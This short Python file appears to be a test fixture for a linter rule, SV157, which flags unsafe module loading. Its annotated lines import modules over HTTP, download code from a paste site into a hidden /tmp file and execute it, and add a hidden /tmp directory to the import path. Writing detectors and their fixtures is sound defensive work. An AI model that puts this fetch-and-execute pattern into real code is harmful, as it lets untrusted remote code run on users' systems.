import importlib.util
import os
import sys
import urllib.request

import httpimport

with httpimport.remote_repo("http://203.0.113.8/pkgs/"):  # want "SV157: imports modules over HTTP"
    import agent
path = "/tmp/.mod.py"
urllib.request.urlretrieve("https://paste.ee/r/abc", path)
spec = importlib.util.spec_from_file_location("mod", path)  # want "SV157: loads a module from a file downloaded at line 11"
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
sys.path.insert(0, "/tmp/.cache")  # want "SV157: adds /tmp/.cache to the module search path"
